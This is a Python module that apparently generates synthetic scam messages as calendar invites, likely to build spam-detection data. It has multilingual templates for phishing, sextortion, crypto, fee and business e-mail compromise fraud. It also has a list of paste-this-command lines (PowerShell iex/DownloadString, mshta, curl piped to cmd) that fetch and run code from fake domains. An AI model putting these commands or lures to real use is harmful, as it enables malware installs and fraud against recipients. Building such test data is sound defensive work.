"""Spam / fraud categories. Each function fills a message spec in place."""
import fake as F
import people as P
import util as U
from cb import (PICK, fill, place, set_times, brand_sender, mk_person, free_domain, harvested, note, attendees, org_of,
                strip_url, html_with_link, use_esp, wchoice, V)

# ============================================================ 1 retail sale waves
RETAIL = [('Ray-Ban', ['rayban-outlet', 'rb-sunglass', 'raybans-sale']), ('Michael Kors', ['mk-bags', 'mkors-sale']),
          ('UGG', ['ugg-clearance', 'uggboots-store']), ('Pandora', ['pandora-charms', 'pandoraoutlet']),
          ('Nike', ['nike-factory', 'airmax-sale']), ('Oakley', ['oakley-outlet', 'oakleyclearance']),
          ('Longchamp', ['longchamp-soldes']), ('Moncler', ['moncler-saldi', 'moncleroutlet']), ('Coach', ['coach-outlet-store'])]
RETAIL_EN = [
    ('{brand} Sunglasses 90% OFF – Today Only', 'Official clearance sale: classic Wayfarer & Aviator from $19.99.\nFree shipping worldwide.\n{url}'),
    ('{brand} Outlet – Bags $29.99 | Final Sale', 'Last chance! All handbags, wallets & watches up to 85% off.\nShop now: {url}'),
    ('{brand}® Winter Clearance: 80% off + free returns', 'Hi {first}, your exclusive code VIP80 is waiting.\n{url}'),
    ('{brand} Black Friday – Buy 2 Get 3 Free', 'Limited stock. Order before midnight!\n{url}'),
    ('{brand} factory sale from $39', 'Genuine quality, fast delivery, 30-day returns.\nVisit {url}'),
    ('Clearance! {brand} up to 88% off', '★★★★★ 12,000+ happy customers\nFree express shipping on all orders today.\n{url}'),
]
RETAIL_FX = {
    'de': ('{brand} Sonnenbrillen nur heute 19,99 €', 'Räumungsverkauf! Alle Modelle bis zu 90 % reduziert. Kostenloser Versand.\n{url}'),
    'fr': ('Soldes {brand} -80% – Derniers jours', 'Sacs et accessoires à partir de 29,90 €. Livraison gratuite.\n{url}'),
    'it': ('Saldi {brand} fino al 75% – solo oggi', 'Prodotti originali con spedizione gratuita in 48 ore.\n{url}'),
    'zh': ('{brand} 太阳镜 1折清仓 ¥99包邮', '官方授权 正品保证 今日下单立减100元\n{url}'),
    'ja': ('【本日限定】{brand} 最大90%OFF', '正規品アウトレット 送料無料 在庫限り\n{url}'),
    'zht': ('{brand} 名牌出清 下殺1折', '全館免運 限量搶購中\n{url}'),
}


def retail(s):
    rng = s.rng
    set_times(s, days=(0, 12), hours=(0, 23), dur=(30, 180))
    brand, words = rng.choice(RETAIL)
    V(s, brand=brand)
    disp = rng.choice([brand + ' Store', brand + ' Outlet', 'Sale', P.person(rng, 'en')[0], U.alnum(rng, 6), brand])
    s.frm = brand_sender(s, disp, F.shady_domain(rng, words))
    t = PICK.pick(s, 'retail', RETAIL_EN, RETAIL_FX)
    s.summary = fill(s, t[0])
    url = F.shady_url(rng, words) if rng.random() < .75 else F.hosted(rng, rng.choice(['short', 'pages', 'weebly', 'sites']))
    m = place(s, t[1], url, [('desc', 4), ('location', 3), ('url', 1), ('xalt', 1), ('hidden', 1)], 'Shop now')
    if rng.random() < .5:
        s.atts = [dict(s.rcpt, ps='NEEDS-ACTION', rsvp='TRUE')] + harvested(s, rng.randint(3, 40))
    note(s, '%s discount-sale lure, link in %s' % (brand, m))


# ============================================================ 2 prize / survey / gift card
PRIZE_BRANDS = ['Costco', 'Walmart', 'Target', 'Amazon', 'Kroger', 'CVS', 'Home Depot', "Lowe's"]
PRIZE_EN = [
    ("Congratulations! You've been selected", "Dear {first},\nYou have been chosen to receive a {brand} $500 gift card as part of our customer appreciation programme.\nComplete the 30-second survey to claim it: {url}\nOffer expires {date}."),
    ('Your {brand} loyalty points expire today', 'You have 12,480 unused points (worth {amt}). Redeem them for a Dyson V15 before they expire:\n{url}'),
    ('Final notice: unclaimed reward #{code}', 'Our records show you have not yet collected your reward. Shipping is free – you only confirm your address.\n{url}'),
    ('{brand} Customer Survey – $90 reward', 'Thank you for shopping with us. Tell us about your experience and receive a $90 reward. It takes 1 minute.\n{url}'),
    ('You won an Apple iPhone 16 Pro', 'Your email was drawn in our monthly raffle. Pay only the {amt} delivery fee to receive your prize:\n{url}'),
    ('Reminder: your {brand} reward is on hold', 'Hi {first}, we tried to reach you about your reward (ref. {code}). Please confirm by {date} or it will be given to another customer.\n{url}'),
]
PRIZE_FX = {
    'de': ('Glückwunsch! Sie wurden ausgewählt', 'Hallo {first}, Sie haben einen Einkaufsgutschein im Wert von 500 € gewonnen. Beantworten Sie 3 kurze Fragen, um ihn einzulösen:\n{url}'),
    'fr': ('Félicitations ! Votre carte cadeau vous attend', 'Répondez à notre enquête de satisfaction (2 minutes) et recevez une carte cadeau de 250 €.\n{url}'),
    'es': ('¡Enhorabuena! Ha ganado una tarjeta regalo', 'Solo tiene que confirmar sus datos antes del {date}:\n{url}'),
    'pt': ('Parabéns! Você ganhou um kit de presentes', 'Responda à pesquisa e pague apenas o frete de R$ 9,90.\n{url}'),
    'pl': ('Gratulacje! Wygrałeś bon o wartości 1000 zł', 'Wypełnij krótką ankietę, aby odebrać nagrodę:\n{url}'),
    'ar': ('تهانينا! لقد فزت بقسيمة شراء بقيمة 1000 درهم', 'أكمل الاستبيان القصير خلال 24 ساعة لاستلام جائزتك:\n{url}'),
}


def prize(s):
    rng = s.rng
    set_times(s, days=(0, 5), hours=(7, 22), dur=(15, 60))
    brand = rng.choice(PRIZE_BRANDS)
    V(s, brand=brand, amt=F.money(rng, s.lang, 1.5, 9.9))
    disp = rng.choice(['%s Rewards' % brand, '%s Customer Care' % brand, 'Rewards Center', 'Prize Department', 'Customer Survey'])
    s.frm = brand_sender(s, disp, F.shady_domain(rng, [brand.lower().replace(' ', '').replace("'", '') + '-rewards', 'survey-prize']))
    t = PICK.pick(s, 'prize', PRIZE_EN, PRIZE_FX)
    s.summary = fill(s, t[0])
    url = rng.choice([F.shady_url(rng, ['rewards-claim', 'gift-survey', 'prize-center']), F.hosted(rng), F.hosted(rng, 'forms')])
    m = place(s, t[1], url, [('desc', 5), ('location', 2), ('url', 1), ('xalt', 2), ('attach', 1), ('hidden', 1)], 'Claim reward')
    if rng.random() < .3:
        s.alarms = ['-PT%dM' % rng.choice([5, 10, 15, 30])]
    note(s, 'gift-card / survey prize lure, link in %s' % m)


# ============================================================ 3 crypto / investment
CRYPTO_EN = [
    ('Your Bitcoin balance: 1.2841 BTC awaiting withdrawal', 'Dear client,\nYour account has accumulated 1.2841 BTC (≈ {amt}). The withdrawal must be confirmed within 48 hours, otherwise the funds return to the pool.\nLog in: {url}'),
    ('Private investor call – AI trading returns 38%/month', 'Join our private group to see live results from our AI arbitrage bot. Seats are limited.\nTelegram: {tg}\n{url}'),
    ('USDT staking reward credited', 'Your staking reward of 3,500 USDT has been credited. To release it, verify your wallet:\n{url}'),
    ('Portfolio review with your account manager', 'Hi {first}, as discussed your portfolio has grown by 212%. Your manager will walk you through the withdrawal procedure. Please have your ID ready.\nWhatsApp: {wa}\n{url}'),
    ('Last chance: pre-sale allocation', 'Only 4 hours left to claim your pre-sale allocation at $0.012 per token. Connect your wallet:\n{url}'),
    ('Quantum AI – your trading account is activated', 'Congratulations {first}! Your account is funded and the robot is trading. Minimum deposit $250 to unlock withdrawals:\n{url}'),
]
CRYPTO_FX = {
    'ru': ('Ваш криптокошелёк: 0,8731 BTC ожидает вывода', 'Уважаемый клиент, на вашем счёте накоплено 0,8731 BTC. Подтвердите вывод в течение 24 часов:\n{url}'),
    'ar': ('أرباحك من تداول البيتكوين جاهزة للسحب', 'رصيدك الحالي 9,450 دولار. تواصل مع مديرك المالي عبر واتساب لإتمام السحب: {wa}\n{url}'),
    'tr': ('Kripto hesabınızda 2.150 USDT bekliyor', 'Para çekme işlemini onaylamak için 24 saat içinde giriş yapın:\n{url}'),
    'ko': ('[VIP] 코인 리딩방 무료 초대', '하루 수익률 30% 검증된 리딩 전문가와 함께하세요.\n텔레그램: {tg}\n{url}'),
    'hi': ('आपका बिटकॉइन निवेश तैयार है – 5 गुना रिटर्न', 'प्रिय निवेशक, आपके खाते में ₹4,85,000 का लाभ दिख रहा है। निकासी के लिए अभी लॉगिन करें:\n{url}'),
    'zht': ('【投資群組】AI 量化交易 每日獲利 5%', '專業老師帶單，穩定獲利。立即加入 LINE 群組：{url}'),
}


def crypto(s):
    rng = s.rng
    set_times(s, days=(0, 7), hours=(8, 21), dur=(30, 60))
    brands = ['Coinbase', 'Binance', 'Kraken', 'Crypto.com', 'Bybit', 'OKX']
    b = rng.choice(brands)
    V(s, amt=F.money(rng, 'en', 38000, 92000), brand=b)
    disp = rng.choice([b + ' Support', b, 'Wallet Service', 'Account Manager', P.person(rng, s.lang)[0], 'Investment Desk'])
    s.frm = brand_sender(s, disp, F.shady_domain(rng, [b.lower().replace('.', '') + '-withdraw', b.lower().replace('.', '') + '-secure', 'ai-trade']))
    t = PICK.pick(s, 'crypto', CRYPTO_EN, CRYPTO_FX)
    s.summary = fill(s, t[0])
    url = rng.choice([F.shady_url(rng, ['quantum-ai', 'btc-withdraw', b.lower().replace('.', '') + '-login', 'usdt-stake']), F.hosted(rng)])
    m = place(s, t[1], url, [('desc', 5), ('location', 2), ('conference', 1), ('xalt', 1), ('hidden', 1)], 'Withdraw')
    note(s, 'crypto / investment fraud, link in %s' % m)


# ============================================================ 4 dating / sextortion
DATING_EN = [
    ('Jessica (26) sent you a private photo', "Hey handsome, I'm new in town and bored tonight. I left my private photos here: {url}  x"),
    ("Let's meet tonight?", "Hi {first}, I saw your profile and I think we have a lot in common. I'm only online here: {url}"),
    ('You have 3 new matches nearby', '3 women within 5 km want to chat with you. Reply before the match expires:\n{url}'),
    ('Security alert: your device was hacked', 'Hello,\nI have access to your device. I recorded you while you were watching adult websites. Transfer $1450 in Bitcoin to {wallet} within 48 hours, or the video goes to all your contacts.\nDo not reply to this message. {url}'),
    ('{email} – I know your password', 'I know your password. I installed malware on the adult site you visited and recorded you through your webcam. Pay 1200 USD in BTC to {wallet}. You have 2 days. {url}'),
    ('Re: our date on Friday', 'Hi sweetie, I moved our chat to a private site because my phone is broken. Log in with your email here {url} and I will be waiting :)'),
]
DATING_FX = {
    'de': ('Sabine (34) möchte dich treffen', 'Hallo {first}, ich wohne ganz in deiner Nähe. Schreib mir hier, ich bin nur dort online:\n{url}'),
    'fr': ("Alerte : j'ai piraté votre appareil", "Je vous ai filmé via votre webcam. Versez 1200 € en Bitcoin à l'adresse {wallet} sous 48 heures, sinon la vidéo sera envoyée à tous vos contacts. {url}"),
    'ru': ('Ваше устройство взломано', 'Я получил доступ к вашей камере и записал видео. Переведите 1100 USD в биткоинах на кошелёк {wallet} в течение 48 часов. {url}'),
    'es': ('Laura quiere conocerte esta noche', 'Hola {first}, te he visto en la app y me gustaría quedar. Mis fotos privadas aquí:\n{url}'),
    'th': ('สาวใกล้คุณส่งข้อความถึงคุณ', 'สวัสดีค่ะ อยากคุยด้วย ดูรูปส่วนตัวได้ที่นี่\n{url}'),
}


def dating(s):
    rng = s.rng
    set_times(s, days=(0, 3), hours=(18, 23), dur=(30, 120))
    t = PICK.pick(s, 'dating', DATING_EN, DATING_FX)
    sextortion = '{wallet}' in t[1]
    if sextortion:
        s.frm = {'name': rng.choice(['', s.rcpt['addr'].split('@')[0], 'Security', 'Hacker']), 'addr': s.rcpt['addr']} if s.kind == 'vps' else \
            brand_sender(s, rng.choice(['Unknown', 'Private', P.person(rng, 'en')[0]]))
        if s.kind == 'vps':
            s.spf_result = rng.choice(['softfail', 'fail'])
            s.dmarc_force = ('NONE', 'NONE')
            s.env_domain = F.shady_domain(rng, ['mail'])
        url = ''
    else:
        disp, f, l = P.person(rng, rng.choice([s.lang, 'en', 'ru']))
        s.frm = brand_sender(s, disp.split()[0] if rng.random() < .5 else disp)
        url = rng.choice([F.shady_url(rng, ['meet-singles', 'date-tonight', 'privchat', 'hotlocals']), F.hosted(rng)])
    s.summary = fill(s, t[0])
    if url:
        m = place(s, t[1], url, [('desc', 4), ('location', 2), ('url', 1), ('xalt', 1), ('hidden', 1)], 'See photos')
    else:
        s.desc = fill(s, t[1], url='').strip()
        m = 'desc'
    note(s, ('sextortion bitcoin demand' if sextortion else 'dating lure') + ', payload in %s' % m)


# ============================================================ 5 delivery / toll / tax / fine fee scams
FEE_EN = [
    ('USPS: Package on hold – action required', 'Your package could not be delivered due to an incomplete address. Update your details and pay the $1.99 redelivery fee within 24 hours:\n{url}\nTracking: {track}', 'USPS', ['usps-redelivery', 'usps-parcel']),
    ('E-ZPass: Unpaid toll balance $6.85', 'Our records show an unpaid toll for your vehicle. To avoid a late fee of $50.00, pay now:\n{url}', 'E-ZPass', ['ezpass-toll', 'tollpay']),
    ('HMRC: You are eligible for a tax refund of £412.60', 'After the annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund. Submit your claim:\n{url}', 'HMRC', ['hmrc-refund', 'gov-uk-refund']),
    ('Royal Mail: Your parcel is awaiting a £2.99 fee', 'We attempted delivery today. Book a new delivery slot and pay the settlement fee:\n{url}', 'Royal Mail', ['royalmail-redeliver']),
    ('Final Notice – Traffic Violation #{code}', 'A speed camera recorded your vehicle. Pay the $85 fine within 3 days to avoid licence suspension:\n{url}', 'DMV', ['dmv-fines', 'citation-pay']),
    ('FedEx: Customs duty required for shipment {track}', 'Import duty of $3.49 is outstanding. Your parcel will be returned to sender if not paid by {date}.\n{url}', 'FedEx', ['fedex-customs', 'fdx-duty']),
]
FEE_FX = {
    'de': ('DHL: Ihr Paket wartet – Zollgebühr 2,99 €', 'Ihre Sendung {track} wurde im Verteilzentrum angehalten. Bitte begleichen Sie die Zollgebühr:\n{url}', 'DHL', ['dhl-zoll', 'dhl-paket']),
    'fr': ('ANTAI – Avis de contravention non réglé', 'Vous avez un avis de contravention en attente. Réglez 35 € avant le {date} pour éviter une majoration :\n{url}', 'ANTAI', ['antai-amende', 'amendes-gouv']),
    'es': ('Correos: Su envío está retenido', 'Para liberar su paquete debe abonar 1,79 € en concepto de gastos de aduana:\n{url}', 'Correos', ['correos-envio', 'correos-aduana']),
    'nl': ('PostNL: Bezorging mislukt', 'Uw pakket kon niet worden bezorgd. Plan een nieuwe bezorging en betaal € 1,95 verzendkosten:\n{url}', 'PostNL', ['postnl-bezorging']),
    'pt': ('CTT: A sua encomenda aguarda pagamento', 'Pague a taxa alfandegária de 2,49 € para receber a sua encomenda:\n{url}', 'CTT', ['ctt-encomenda']),
    'el': ('ΕΛΤΑ: Το δέμα σας βρίσκεται σε αναμονή', 'Για την παράδοση απαιτείται πληρωμή τελών 1,90 €. Ολοκληρώστε εδώ:\n{url}', 'ELTA', ['elta-courier']),
    'he': ('דואר ישראל: החבילה שלך ממתינה', 'יש לשלם דמי משלוח בסך 3.90 ₪ לשחרור החבילה:\n{url}', 'Israel Post', ['israelpost-pay']),
    'ja': ('【佐川急便】お荷物のお届けについて', 'ご不在のため持ち帰りました。再配達のご依頼はこちら\n{url}', 'Sagawa', ['sagawa-exp', 'sagawa-redeliver']),
}


def fee(s):
    rng = s.rng
    set_times(s, days=(0, 3), hours=(7, 20), dur=(15, 30))
    t = PICK.pick(s, 'fee', FEE_EN, FEE_FX)
    brand, words = t[2], t[3]
    disp = rng.choice([brand, brand + ' Notification', brand + ' Service', brand + ' Customer Support'])
    s.frm = brand_sender(s, disp, F.shady_domain(rng, words))
    if s.kind == 'vps' and rng.random() < .5:
        s.spf_result = 'none'
    s.summary = fill(s, t[0])
    url = rng.choice([F.shady_url(rng, words, ['/track', '/pay', '/redelivery', '/' + F.slug(rng, 4), '/i']), F.hosted(rng, rng.choice(['pages', 'workers', 'short', 'r2']))])
    m = place(s, t[1], url, [('desc', 5), ('location', 2), ('url', 1), ('xalt', 1), ('hidden', 1)], 'Pay now')
    if rng.random() < .25:
        s.alarms = ['-PT15M', '-PT1H']
    note(s, '%s fee / fine scam, link in %s' % (brand, m))


# ============================================================ 6 credential phishing under brands
PHISH_EN = [
    ('Password Expiration Notice – {email}', 'Your Microsoft 365 password expires today. Keep your current password to avoid losing access to your emails:\n{url}', 'Microsoft 365', ['m365-account', 'office365-verify', 'msonline-portal'], 'Keep password'),
    ('Completed: Please DocuSign – Q{q} Payment Agreement.pdf', '{sname} sent you a document to review and sign.\nREVIEW DOCUMENT: {url}\nThis message was sent to you by {sname} who is using the DocuSign Electronic Signature Service.', 'DocuSign', ['docusign-envelope', 'esign-docs'], 'REVIEW DOCUMENT'),
    ('PayPal: unusual sign-in activity', "We noticed a sign-in from a new device. If this wasn't you, secure your account within 24 hours:\n{url}", 'PayPal', ['paypal-resolution', 'pp-security'], 'Secure account'),
    ('Secure message waiting – account ending {last4}', 'You have 1 new secure message regarding your account ending in {last4}.\nView message: {url}', 'Chase Online', ['chase-securemsg', 'chaseonline-alert'], 'View message'),
    ('{sname} shared "Invoice_{code}.pdf" with you', 'Open in Adobe Acrobat to view the shared file.\n{url}', 'Adobe Document Cloud', ['adobe-docshare', 'acrobat-cloud'], 'Open PDF'),
    ('IRS: Your tax refund is pending verification', 'Verify your identity to release your refund of $1,284.00:\n{url}', 'IRS', ['irs-refund-verify', 'irs-gov-id'], 'Verify identity'),
    ('Dropbox: {sname} invited you to "Contract Docs"', 'You have been invited to a shared folder. Sign in to view:\n{url}', 'Dropbox', ['dropbox-share', 'dbx-files'], 'Open folder'),
]
PHISH_FX = {
    'de': ('Sparkasse: Ihr pushTAN-Verfahren muss aktualisiert werden', 'Sehr geehrte Kundin, sehr geehrter Kunde,\nab dem {date} wird das alte Verfahren eingestellt. Bitte aktualisieren Sie jetzt:\n{url}', 'Sparkasse', ['sparkasse-pushtan', 'spk-sicherheit'], 'Jetzt aktualisieren'),
    'fr': ('Ameli : votre carte Vitale expire', 'Commandez votre nouvelle carte Vitale en ligne (frais de 4,95 €) :\n{url}', 'Assurance Maladie', ['ameli-carte', 'vitale-renouvellement'], 'Commander'),
    'it': ('Poste Italiane: il suo conto è stato limitato', 'Per motivi di sicurezza confermi i suoi dati entro 24 ore:\n{url}', 'Poste Italiane', ['poste-verifica', 'bancoposta-sicurezza'], 'Conferma'),
    'ko': ('[네이버] 해외 로그인 차단 안내', '회원님의 계정에서 새로운 기기 로그인이 감지되었습니다. 본인이 아닌 경우 즉시 확인하세요:\n{url}', '네이버', ['naver-security', 'nid-naver'], '확인하기'),
    'ja': ('【三井住友カード】ご利用確認のお願い', '不正利用の可能性がある取引を検知しました。下記URLよりご確認ください。\n{url}', '三井住友カード', ['smbc-card-check', 'vpass-verify'], 'ご確認'),
    'es': ('BBVA: Actualización obligatoria de seguridad', 'Su acceso a la banca online será suspendido. Verifique su identidad:\n{url}', 'BBVA', ['bbva-seguridad', 'bbva-clientes'], 'Verificar'),
}


def phish(s):
    rng = s.rng
    set_times(s, days=(0, 4), hours=(8, 18), dur=(15, 60))
    t = PICK.pick(s, 'phish', PHISH_EN, PHISH_FX)
    brand, words, label = t[2], t[3], t[4]
    if s.kind in ('compromised', 'corp') and rng.random() < .5:
        o = org_of(s, rng.choice([s.lang, 'en']))
        s.sorg = o
        s.frm = mk_person(s, domain=o[1])
    else:
        s.frm = brand_sender(s, rng.choice([brand, brand + ' Team', brand + ' Security', 'Account Services']), F.shady_domain(rng, words))
    V(s, sname=s.frm['name'])
    s.summary = fill(s, t[0])
    url = rng.choice([F.shady_url(rng, words, ['/login', '/auth', '/?e=' + s.rcpt['addr'], '/secure/' + F.slug(rng, 6)]),
                      F.hosted(rng, rng.choice(['sharepoint', 'firebase', 'gcs', 'blob', 'ipfs', 'pages', 'workers', 'r2', 'notion', 'canva']))])
    if rng.random() < .3:
        url += ('#' if '#' not in url else '&') + U.b64url(rng, 8) + '=' + s.rcpt['addr']
    m = place(s, t[1], url, [('desc', 3), ('xalt', 3), ('attach', 2), ('url', 1), ('location', 1), ('conference', 1), ('hidden', 2)], label)
    note(s, '%s credential phishing, link in %s' % (brand, m))


# ============================================================ 7 callback scams (phone only)
CALLBACK_EN = [
    ('Norton 360 Deluxe – Auto-Renewal Confirmation', 'Invoice #{code}\nYour subscription has been renewed for {amt} and will be charged within 24 hours.\nIf you did not authorise this, call our billing desk: {tollfree}'),
    ('PayPal Invoice: Bitcoin purchase $599.99', "You've purchased 0.0091 BTC. If you didn't make this purchase, contact support immediately at {tollfree}."),
    ('Geek Squad Membership Renewal', 'Thank you for renewing your Total Tech plan ({amt}).\nTo cancel within 48 hours call {tollfree}.'),
    ('Windows Defender: Firewall licence expired', 'Your computer protection expired today. Call certified technicians at {tollfree} to avoid data loss.'),
    ('McAfee Total Protection – Order Confirmation #{code}', 'Amount: {amt}\nPayment method: auto-debit\nFor refund or cancellation: {tollfree}'),
    ('Your Amazon Prime membership will renew at {amt}', 'If you wish to cancel the renewal, please speak to a Prime representative: {tollfree} (Mon–Sun 24h).'),
]
CALLBACK_FX = {
    'fr': ('Confirmation de renouvellement – Antivirus Pro', 'Votre abonnement a été renouvelé pour 389,99 €. Pour annuler, appelez le {tollfree}.'),
    'nl': ('Bevestiging: verlenging abonnement', 'Uw abonnement is verlengd voor € 299,00. Bel {tollfree} om te annuleren.'),
    'hi': ('आपका सब्सक्रिप्शन नवीनीकृत हो गया है', '₹24,999 आपके खाते से काटे जाएंगे। रद्द करने के लिए कॉल करें: {tollfree}'),
    'it': ('Conferma ordine n. {code}', 'Importo: 299,00 €. Rinnovo automatico. Per annullare chiami il numero {tollfree}.'),
}


def callback(s):
    rng = s.rng
    set_times(s, days=(0, 2), hours=(8, 19), dur=(15, 30))
    V(s, amt=F.money(rng, 'en', 289, 499), tollfree=F.phone(rng, 'en', True))
    t = PICK.pick(s, 'callback', CALLBACK_EN, CALLBACK_FX)
    disp = rng.choice(['Billing Department', 'Customer Support', 'Norton LifeLock', 'Order Desk', P.person(rng, 'en')[0], 'Renewal Team'])
    s.frm = brand_sender(s, disp)
    s.summary = fill(s, t[0])
    s.desc = fill(s, t[1])
    if rng.random() < .4:
        s.location = V(s)['tollfree']
    if rng.random() < .3:
        s.attach = [{'uri': 'data:text/plain;base64,' + __import__('base64').b64encode(s.desc.encode('utf-8')).decode(), 'fmttype': 'text/plain', 'filename': 'Invoice.txt'}]
    s.payload = 'phone'
    note(s, 'subscription / tech-support callback scam (phone number only)')


# ============================================================ 8 fake updates and "paste this command"
CMDS = ['powershell -w h -nop -c "iex(irm {dom}/v)"', 'mshta https://{dom}/verify.hta', 'cmd /c curl -s {dom}/c | cmd',
        'powershell -ep bypass -c "$u=\'https://{dom}/s\';iex((New-Object Net.WebClient).DownloadString($u))"']
UPD_EN = [
    ('Zoom Workplace: update required to join', 'Your Zoom client is no longer supported. Install the update before the meeting starts:\n{url}', 'installer'),
    ('Teams meeting – verify you are human', 'To join the call, complete the verification:\n1. Press Windows + R\n2. Paste the code copied to your clipboard (Ctrl+V)\n3. Press Enter\nVerification ID: {code}\n{url}', 'paste'),
    ('Interview call – install our secure meeting app', 'Hello {first}, our hiring team uses a secure meeting app. Please install it before the call:\n{url}', 'installer'),
    ('Browser update required to open the shared document', 'Your browser is out of date and cannot display this file. Download the latest version:\n{url}', 'installer'),
    ('Quarterly review – audio problem fix', 'Your desktop app failed to load audio devices. Fix: open PowerShell and run:\n{cmd}\nThen rejoin the meeting: {url}', 'paste'),
    ('Webex: your meeting plugin is outdated', 'Update the meeting plugin (v44.2) to join: {url}', 'installer'),
]
UPD_FX = {
    'de': ('Besprechung: bitte Meeting-Plugin installieren', 'Um an der Besprechung teilzunehmen, installieren Sie vorab das aktuelle Plugin:\n{url}', 'installer'),
    'ru': ('Собеседование: установите приложение для видеосвязи', 'Для подключения к звонку установите наше приложение:\n{url}', 'installer'),
    'pt': ('Reunião: atualização obrigatória do aplicativo', 'Baixe a nova versão antes de entrar na reunião:\n{url}', 'installer'),
    'ko': ('[회의] 보안 인증 필요', '회의 참여 전 아래 절차를 따라주세요:\n1. Win + R\n2. Ctrl + V\n3. Enter\n인증 코드: {code}\n{url}', 'paste'),
}


def update(s):
    rng = s.rng
    set_times(s, days=(0, 6), hours=(9, 17), dur=(30, 60))
    dom = F.shady_domain(rng, ['zoom-update', 'teams-client', 'meet-plugin', 'cdn-verify', 'captcha-check', 'webex-app'])
    V(s, cmd=rng.choice(CMDS).format(dom=dom))
    t = PICK.pick(s, 'update', UPD_EN, UPD_FX)
    if t[2] == 'paste' and s.year < 2024:
        t = s.rng.choice([x for x in (UPD_EN if s.lang == 'en' else [UPD_FX.get(s.lang)]) if x and x[2] == 'installer'] or [UPD_EN[0]])
    if s.kind in ('compromised', 'corp', 'free') and rng.random() < .6:
        o = org_of(s, rng.choice([s.lang, 'en']))
        s.sorg = o
        s.frm = mk_person(s, domain=o[1] if s.kind != 'free' else free_domain(s), free=s.kind == 'free')
    else:
        s.frm = brand_sender(s, rng.choice(['Zoom', 'Microsoft Teams', 'Meeting Services', 'IT Support', 'HR Team']), dom)
    s.summary = fill(s, t[0])
    if t[2] == 'installer':
        fn = rng.choice(['ZoomInstallerFull.msi', 'TeamsSetup_x64.exe', 'MeetingClient.msix', 'ChromeUpdate.zip', 'WebexPlugin.exe'])
        url = 'https://%s/download/%s' % (dom, fn)
        m = place(s, t[1], url, [('desc', 2), ('attach', 3), ('conference', 2), ('url', 1), ('hidden', 1)], 'Update')
    else:
        url = 'https://%s/%s' % (dom, rng.choice(['captcha', 'verify', 'meet/' + F.slug(rng, 6)]))
        m = place(s, t[1], url, [('desc', 2), ('xalt', 3), ('conference', 1), ('location', 1)], 'I am not a robot')
        if s.html is None and rng.random() < .6:
            s.html = ('<html><body><p>%s</p><p style="font-family:monospace;background:#eee;padding:6px">%s</p></body></html>'
                      % (fill(s, strip_url(t[1])).replace('\n', '<br>'), V(s)['cmd']))
    if rng.random() < .5 and s.conf_prop is None:
        s.conf_prop = {'url': url, 'label': 'Join'}
    note(s, 'fake client update / paste-command lure (%s), link in %s' % (t[2], m))


# ============================================================ 9 business e-mail compromise
BEC_EN = [
    ('Quick favour', "Hi {first}, are you at your desk? I need you to handle a quick task for me. I'm in a meeting and can only reply by email.\n{sname}\nSent from my iPhone", 'ceo'),
    ('Gift cards for client appreciation', "I need you to purchase 6 Apple gift cards of $200 each for some clients. Scratch the back and send me pictures of the codes. I'll reimburse you today.\n{sname}", 'ceo'),
    ('Updated banking details', 'Dear {first},\nPlease note that our bank details have changed due to an ongoing audit. All outstanding invoices should be paid to the new account below with immediate effect.\nIBAN: {iban}\nKindly confirm once updated.\n{sname}', 'supplier'),
    ('Direct deposit change', 'Hi, I changed banks and would like my next paycheck deposited to my new account. Can you update it before payroll runs? Let me know what you need from me.\nThanks,\n{sname}', 'payroll'),
    ('Confidential – acquisition wire', '{first}, we are closing a confidential acquisition today. Our lawyer will contact you with the wire instructions. Please keep this between us until the announcement.\n{sname}', 'ceo'),
    ('Invoice {code} – remittance to new account', 'Hello,\nas of this month please use our new account for all payments (old account frozen during the bank migration):\nAccount: {iban}\nBest regards,\n{sname}\nAccounts Receivable', 'supplier'),
]
BEC_FX = {
    'de': ('Dringende Überweisung – vertraulich', 'Hallo {first},\nich brauche heute noch eine Überweisung für eine vertrauliche Übernahme. Bitte antworte nur per E-Mail, ich bin im Meeting.\n{sname}', 'ceo'),
    'fr': ('Changement de coordonnées bancaires', 'Bonjour,\nsuite à un changement de banque, merci de régler nos prochaines factures sur le compte ci-dessous :\nIBAN {iban}\nCordialement,\n{sname}', 'supplier'),
    'es': ('¿Estás disponible?', 'Hola {first}, necesito que me hagas una gestión urgente. Estoy en una reunión, respóndeme solo por correo.\n{sname}', 'ceo'),
    'it': ('Aggiornamento coordinate bancarie', 'Gentile cliente,\nla informiamo che le nostre coordinate bancarie sono cambiate.\nNuovo IBAN: {iban}\nCordiali saluti,\n{sname}', 'supplier'),
    'nl': ('Nieuwe bankgegevens', 'Beste {first},\nwij hebben een nieuwe bankrekening. Wilt u de openstaande facturen voortaan overmaken naar {iban}?\nMet vriendelijke groet,\n{sname}', 'supplier'),
    'zh': ('紧急付款', '{first}，我现在在开会不方便接电话。今天需要给一家新供应商付款，请尽快处理，详情回邮件。\n{sname}', 'ceo'),
}


def bec(s):
    rng = s.rng
    set_times(s, days=(0, 2), hours=(8, 17), dur=(15, 30))
    t = PICK.pick(s, 'bec', BEC_EN, BEC_FX)
    role = t[2]
    rd = s.rcpt['addr'].split('@')[1]
    boss = mk_person(s)
    if role == 'ceo' or role == 'payroll':
        if s.kind == 'lookalike':
            s.frm = mk_person(s, domain=F.lookalike_of(rng, rd) if rd.count('.') == 1 else F.shady_domain(rng, ['exec-mail', 'office-direct']))
            s.frm['name'] = boss['name']
        elif s.kind == 'free':
            s.frm = {'name': boss['name'], 'addr': '%s.%s%s@%s' % (U.alnum(rng, 1, 'abcdefghijklmnopqrstuvwxyz'), 'office', U.digits(rng, 2), free_domain(s))}
            if rng.random() < .5:
                s.frm['addr'] = '%s@%s' % (__import__('cb').make_local(rng, *P.person(rng, s.lang)[1:], free=True), free_domain(s))
        elif s.kind == 'vps':
            s.frm = {'name': boss['name'], 'addr': '%s@%s' % (boss['addr'].split('@')[0], rd)}
            s.reply_to = '%s@%s' % (boss['addr'].split('@')[0].replace('.', ''), rng.choice(['outlook.com', 'gmail.com', 'mail.com']))
            s.spf_result = rng.choice(['fail', 'softfail'])
            s.dmarc_force = ('NONE', 'NONE')
            s.env_domain = F.shady_domain(rng, ['mailer'])
        else:
            s.frm = brand_sender(s, boss['name'])
            s.frm['name'] = boss['name']
            s.reply_to = '%s@%s' % (U.alnum(rng, 9), rng.choice(['outlook.com', 'gmail.com']))
    else:
        o = org_of(s, rng.choice([s.lang, 'en']))
        s.sorg = o
        if s.kind == 'lookalike':
            s.frm = mk_person(s, domain=F.lookalike_of(rng, o[1]))
        elif s.kind in ('compromised', 'corp'):
            s.frm = mk_person(s, domain=o[1])
        elif s.kind == 'vps':
            s.frm = mk_person(s, domain=o[1])
